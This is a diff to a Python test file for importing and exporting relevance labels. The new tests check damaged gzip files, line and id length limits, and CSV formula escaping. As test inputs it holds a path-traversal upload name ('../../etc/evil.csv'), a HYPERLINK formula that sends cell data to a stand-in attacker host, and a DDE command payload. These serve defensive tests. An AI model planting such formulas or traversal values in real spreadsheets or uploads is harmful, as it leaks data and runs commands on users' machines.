@@ -176,7 +176,7 @@ def small_engine(tmp_path):
 def test_import_stores_known_documents_in_one_go_and_counts_unknown_ones(small_engine, tmp_path):
     path = tmp_path / "labels.csv"
     path.write_text("query,docid,rating\nfirst query,d1,3\nfirst query,d2,0\nsecond,missing,2\n", encoding="utf-8")
-    report = small_engine.import_labels(path, judge="ann")
+    report = small_engine.import_labels(path, fmt=None, judge="ann")
     assert (report.imported, report.unknown, report.unknown_example) == (2, 1, "missing")
     assert "Skipped 1" in report.message()
     assert sorted((lab.entity_id, lab.grade) for lab in small_engine.labels("ann")) == [("d1", 3), ("d2", 0)]
@@ -190,16 +190,16 @@ def test_a_bad_row_names_its_line_and_stores_nothing(small_engine, tmp_path, nam
     path = tmp_path / name
     path.write_text(content, encoding="utf-8")
     with pytest.raises(LabelFileError, match=f"line {line}"):
-        small_engine.import_labels(path, judge="ann")
+        small_engine.import_labels(path, fmt=None, judge="ann")
     assert small_engine.labels() == []
 
 
 def test_an_upload_is_read_from_memory_under_its_shown_name_only(small_engine, tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)
-    report = small_engine.import_labels(("../../etc/evil.csv", b"query,docid,rating\nq,d3,2\n"), judge="web")
+    report = small_engine.import_labels(("../../etc/evil.csv", b"query,docid,rating\nq,d3,2\n"), fmt=None, judge="web")
     assert report.imported == 1 and not any(tmp_path.parent.glob("etc"))
     with pytest.raises(LabelFileError, match=r"^evil\.csv: line 2"):
-        small_engine.import_labels(("../../etc/evil.csv", b"query,docid,rating\nq,d3,9\n"), judge="web")
+        small_engine.import_labels(("../../etc/evil.csv", b"query,docid,rating\nq,d3,9\n"), fmt=None, judge="web")
 
 
 @pytest.mark.parametrize("fmt", sorted(FORMATS))
@@ -212,3 +212,89 @@ def test_export_then_import_gives_back_the_same_labels(small_engine, tmp_path, f
     small_engine.import_labels(path, fmt, judge="bob")
     mine = {(lab.normalized_query, lab.entity_id, lab.grade) for lab in small_engine.labels("ann")}
     assert {(lab.normalized_query, lab.entity_id, lab.grade) for lab in small_engine.labels("bob")} == mine
+
+
+# --- bad files end in one LabelFileError; exports are spreadsheet-safe --------------------------
+
+def _gzip_of(text: str) -> bytes:
+    import gzip
+
+    return gzip.compress(text.encode("utf-8"))
+
+
+@pytest.mark.parametrize("damage", ["truncated", "corrupt"])
+def test_a_damaged_gz_label_file_is_one_label_file_error(tmp_path, damage):
+    from ltrr_core.base.labels import parse_labels
+
+    whole = _gzip_of("".join(f"q{i} 0 d{i} 1\n" for i in range(2000)))
+    data = whole[: len(whole) // 2] if damage == "truncated" else whole[:20] + b"\xff" * 40 + whole[60:]
+    path = tmp_path / "labels.qrels.gz"
+    path.write_bytes(data)
+    with pytest.raises(LabelFileError, match=r"labels\.qrels\.gz: cannot read it at (line \d+|the start) .*truncated or corrupt"):
+        read_labels(path, "trec")
+    with pytest.raises(LabelFileError, match=r"labels\.qrels\.gz: cannot read it"):  # the Labelling upload
+        parse_labels(data, "labels.qrels.gz")
+
+
+def test_a_gz_label_file_reads_like_the_plain_one(tmp_path):
+    from ltrr_core.base.labels import parse_labels
+
+    text = "query-id\tcorpus-id\tscore\nq1\td1\t2\nq2\td2\t0\n"
+    path = tmp_path / "qrels.tsv.gz"
+    path.write_bytes(_gzip_of(text))
+    assert read_labels(path) == parse_labels(path.read_bytes(), path.name) == [Judgment("q1", "d1", 2), Judgment("q2", "d2", 0)]
+
+
+def test_an_over_long_line_is_refused_with_the_limit_while_streaming(tmp_path):
+    from ltrr_core.base.text_files import MAX_LINE_CHARS
+
+    path = tmp_path / "huge.qrels"
+    with path.open("w") as out:
+        out.write("q1 0 d1 1\n")
+        out.write("q" * (3 * MAX_LINE_CHARS) + " 0 d2 1\n")  # a 3 MB query id
+    with pytest.raises(LabelFileError, match=rf"line 2: longer than the limit of {MAX_LINE_CHARS:,} characters"):
+        read_labels(path, "trec")
+
+
+@pytest.mark.parametrize(("fmt", "line", "what", "limit"), [
+    ("trec", "{long} 0 d1 1\n", "query id", "1,024"),
+    ("trec", "q1 0 {long} 1\n", "doc id", "1,024"),
+    ("csv", "query,docid,rating\n{long},d1,1\n", "query", "2,048"),
+])
+def test_ids_and_queries_over_their_limit_are_refused(tmp_path, fmt, line, what, limit):
+    path = tmp_path / f"labels.{SUFFIX[fmt]}"
+    path.write_text(line.format(long="x" * 5000))
+    with pytest.raises(LabelFileError, match=rf"line \d: the {what} has 5,000 characters, over the limit of {limit}"):
+        read_labels(path, fmt)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+            "\tleading tab", "'=already quoted"]
+
+
+def test_csv_export_neutralises_formula_cells_and_reads_them_back(tmp_path):
+    from ltrr_core.base.records import Label
+    from ltrr_core.feedback.exchange import export_labels
+
+    labels = [Label(q, " ".join(q.split()), f"-doc{i}" if i == 2 else f"doc{i}", 1, "analyst") for i, q in enumerate(FORMULAS)]
+    labels.append(Label("nul\x00inside", "nul inside", "doc_nul", 2, "analyst"))
+    text = export_labels(labels, "csv")  # what `ltrr labels export x.csv` and the Labelling download write
+    assert "\x00" not in text
+    import csv
+    import io
+
+    cells = [cell for row in list(csv.reader(io.StringIO(text, newline="")))[1:] for cell in row[:2]]
+    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells
+    assert cells[0].startswith("'=HYPERLINK") and cells[2] == "'+cmd|' /C calc'!A0" and cells[5] == "'-doc2"
+    path = tmp_path / "export.csv"
+    path.write_text(text, newline="")
+    back = read_labels(path)
+    assert [j.query for j in back] == [*FORMULAS, "nulinside"]
+    assert [j.doc_id for j in back][:3] == ["doc0", "doc1", "-doc2"]
+
+
+def test_a_leading_carriage_return_is_neutralised_too():
+    from ltrr_core.base.text_files import from_spreadsheet_cell, spreadsheet_cell
+
+    assert spreadsheet_cell("\rcalc") == "'\rcalc" and from_spreadsheet_cell("'\rcalc") == "\rcalc"
+    assert spreadsheet_cell("plain 'quote") == "plain 'quote" and spreadsheet_cell("a\x00b") == "ab"
